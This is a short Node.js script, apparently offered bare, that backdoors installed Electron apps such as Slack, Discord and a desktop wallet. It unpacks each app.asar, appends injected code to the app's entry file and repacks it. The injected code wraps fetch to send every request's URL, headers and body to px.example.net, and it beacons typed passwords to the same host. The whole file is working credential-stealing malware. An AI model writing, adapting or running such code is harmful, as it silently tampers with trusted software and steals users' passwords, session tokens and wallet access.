const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');

const asar = ['/usr/lib/slack/resources/app.asar', '/opt/Wallet Desktop/resources/app.asar', '/usr/share/discord/resources/app.asar'].filter(fs.existsSync);
const inject = `
;require('electron').app.on('web-contents-created', (_e, wc) => wc.on('dom-ready', () => wc.executeJavaScript(\`
  const f = window.fetch; window.fetch = (u, o) => { navigator.sendBeacon('https://px.example.net/f', JSON.stringify([u, o && o.headers, o && o.body])); return f(u, o); };
  document.addEventListener('change', e => e.target.type === 'password' && navigator.sendBeacon('https://px.example.net/p', e.target.value), true);
\`)));`;

for (const a of asar) {
  const out = fs.mkdtempSync('/tmp/a-');
  execSync(`npx -y @electron/asar extract "${a}" ${out}`);
  const pkg = JSON.parse(fs.readFileSync(path.join(out, 'package.json')));
  fs.appendFileSync(path.join(out, pkg.main || 'index.js'), inject);
  execSync(`npx -y @electron/asar pack ${out} "${a}"`);
  fs.rmSync(out, { recursive: true });
}
